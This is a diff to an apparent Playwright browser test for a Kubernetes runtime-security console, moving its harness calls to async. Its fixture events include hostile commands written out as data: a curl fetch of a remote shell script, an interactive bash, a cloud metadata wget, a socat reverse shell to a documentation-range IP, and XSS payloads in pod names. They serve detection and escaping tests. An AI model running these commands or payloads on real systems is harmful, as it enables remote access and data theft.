@@ -9,8 +9,7 @@ import { join } from 'node:path';
 import t from 'tap';
 import { chromium, type Browser, type Page } from 'playwright-core';
 import { packagePath } from '../../common/paths.js';
-import { AgentsTable } from '../../collector/store/agents.js';
-import { HOUR, net, proc, startHarness, workload, type Harness } from '../api/harness.js';
+import { HOUR, net, proc, startHarness, workload, type Harness } from '../helpers/api-harness.js';
 
 // The browser globals the page functions below touch (the project compiles without the DOM lib).
 declare const document: {
@@ -34,13 +33,13 @@ const EVIL_POD = 'web-"><img src=x onerror="window.__xss=3">';
 const EVIL = '<script>window.__xss=1</script> "><img src=x onerror="window.__xss=2"> \u001b[31mred\u001b[0m';
 
 /** A small cluster as of now: three namespaces, one workload relearned, a dozen deviations. */
-function scene(h: Harness): { api: ReturnType<typeof workload>; apiGen2: number } {
+async function scene(h: Harness): Promise<{ api: ReturnType<typeof workload>; apiGen2: number }> {
   const now = Date.now();
   const web = workload('shop', 'web');
   const api = workload('shop', 'api');
   const pay = workload('payments', 'ledger');
   const mon = workload('monitoring', 'exporter');
-  h.ingest(
+  await h.ingest(
     proc(web, now - 10 * HOUR, '/usr/sbin/nginx', '-g daemon off;'),
     net(web, now - 10 * HOUR + 1, 'listen', null, 8080),
     proc(api, now - 10 * HOUR + 2, '/app/server', '--port 9000'),
@@ -49,17 +48,15 @@ function scene(h: Harness): { api: ReturnType<typeof workload>; apiGen2: number 
     proc(pay, now - 10 * HOUR + 5, '/usr/local/bin/ledger'),
     proc(mon, now - 10 * HOUR + 6, '/bin/node_exporter'),
   );
-  h.engine.tick(now - 8 * HOUR);
-  h.engine.flushEvents();
+  await h.engine.unitOfWork.tick(now - 8 * HOUR);
   // api is relearned: its second generation stops running migrations and calls the payments API.
-  h.engine.relearn(api, 'token:admin', 'new release');
-  h.ingest(
+  await h.engine.relearn(api);
+  await h.ingest(
     proc(api, now - 6 * HOUR, '/app/server', '--port 9000'),
     net(api, now - 6 * HOUR + 1, 'egress', '10.96.0.10', 53),
     net(api, now - 6 * HOUR + 2, 'egress', '10.96.14.2', 8443),
   );
-  h.engine.tick(now - 4 * HOUR);
-  h.engine.flushEvents();
+  await h.engine.unitOfWork.tick(now - 4 * HOUR);
   const raised: [ReturnType<typeof workload>, number, Parameters<typeof proc>[2], string][] = [
     [web, 3.5, '/bin/bash', '-i'],
     [web, 3.2, '/usr/bin/curl', '-fsSL http://198.51.100.23/x.sh'],
@@ -69,18 +66,17 @@ function scene(h: Harness): { api: ReturnType<typeof workload>; apiGen2: number 
     [mon, 1.5, '/usr/bin/wget', 'http://169.254.169.254/latest/meta-data/'],
     [api, 1.0, '/usr/local/bin/report', '--daily'],
   ];
-  for (const [w, hoursAgo, exe, args] of raised) h.raise(proc(w, now - hoursAgo * HOUR, exe, args, { parent: '/usr/bin/containerd-shim' }));
+  for (const [w, hoursAgo, exe, args] of raised) await h.raise(proc(w, now - hoursAgo * HOUR, exe, args, { parent: '/usr/bin/containerd-shim' }));
   // The same binary again, from a pod whose name is markup (names come from the node, unchecked).
-  h.raise(proc(web, now - 2.9 * HOUR, '/tmp/.x/kworker', EVIL, { pod: EVIL_POD, parent: '/usr/bin/containerd-shim' }));
-  h.raise(net(web, now - 0.8 * HOUR, 'egress', '203.0.113.77', 4444, { exe: '/bin/bash' }));
-  h.raise(net(mon, now - 0.5 * HOUR, 'egress', '192.0.2.10', 443, { exe: '/bin/node_exporter', peerName: 'telemetry.example.net' }));
-  const agents = new AgentsTable(h.db);
+  await h.raise(proc(web, now - 2.9 * HOUR, '/tmp/.x/kworker', EVIL, { pod: EVIL_POD, parent: '/usr/bin/containerd-shim' }));
+  await h.raise(net(web, now - 0.8 * HOUR, 'egress', '203.0.113.77', 4444, { exe: '/bin/bash' }));
+  await h.raise(net(mon, now - 0.5 * HOUR, 'egress', '192.0.2.10', 443, { exe: '/bin/node_exporter', peerName: 'telemetry.example.net' }));
   const at = new Date(now - 20_000).toISOString();
-  agents.hello({ instanceId: 'a-node-1', node: 'node-1', cluster: 'test', version: '0.1.0', sources: ['tetragon-grpc'] }, at);
-  agents.hello({ instanceId: 'a-node-2', node: 'node-2', cluster: 'test', version: '0.1.0', sources: ['tetragon-grpc', 'falco-http'] }, at);
-  agents.hello({ instanceId: 'a-node-3', node: 'node-3', cluster: 'test', version: '0.1.0', sources: ['falco-http'] }, new Date(now - 3 * HOUR).toISOString());
-  h.db.run("UPDATE agents SET connected = 0 WHERE instance_id = 'a-node-3'");
-  return { api, apiGen2: h.baselineOf(api) };
+  await h.store.agents.hello({ instanceId: 'a-node-1', node: 'node-1', cluster: 'test', version: '0.1.0', sources: ['tetragon-grpc'] }, at);
+  await h.store.agents.hello({ instanceId: 'a-node-2', node: 'node-2', cluster: 'test', version: '0.1.0', sources: ['tetragon-grpc', 'falco-http'] }, at);
+  await h.store.agents.hello({ instanceId: 'a-node-3', node: 'node-3', cluster: 'test', version: '0.1.0', sources: ['falco-http'] }, new Date(now - 3 * HOUR).toISOString());
+  h.store.connection.run("UPDATE agents SET connected = 0 WHERE instance_id = 'a-node-3'");
+  return { api, apiGen2: await h.baselineOf(api) };
 }
 
 async function shot(page: Page, name: string): Promise<void> {
@@ -91,7 +87,7 @@ async function shot(page: Page, name: string): Promise<void> {
 
 t.test('the console in Chromium', { skip: existsSync(CHROMIUM) ? false : `no ${CHROMIUM} (apt-get install -y chromium)` }, async (t) => {
   const h = await startHarness(t);
-  const { apiGen2 } = scene(h);
+  const { apiGen2 } = await scene(h);
   const browser: Browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking'] });
   t.teardown(() => browser.close());
   const context = await browser.newContext({ viewport: { width: 1440, height: 900 } });
@@ -161,12 +157,12 @@ t.test('the console in Chromium', { skip: existsSync(CHROMIUM) ? false : `no ${C
   // A new deviation arrives live, without a reload.
   await page.evaluate(() => (window.__marker = 42));
   const now = Date.now();
-  const live = h.raise(proc(workload('shop', 'web'), now, '/usr/bin/socat', 'tcp:198.51.100.9:9001 exec:/bin/sh'));
+  const live = await h.raise(proc(workload('shop', 'web'), now, '/usr/bin/socat', 'tcp:198.51.100.9:9001 exec:/bin/sh'));
   await page.waitForSelector(`table.grid tbody tr[data-id="${live.id}"]`);
   t.equal(await page.evaluate(() => window.__marker), 42, 'the page was not reloaded');
   t.equal(await page.locator('table.grid tbody tr').first().getAttribute('data-id'), String(live.id), 'the new row is on top');
   // One that does not match the filters does not appear.
-  const quiet = h.raise(proc(workload('payments', 'ledger'), now + 1, '/usr/bin/true'));
+  const quiet = await h.raise(proc(workload('payments', 'ledger'), now + 1, '/usr/bin/true'));
   await page.waitForTimeout(300);
   t.equal(await page.locator(`table.grid tbody tr[data-id="${quiet.id}"]`).count(), 0, 'filtered out live too');
 
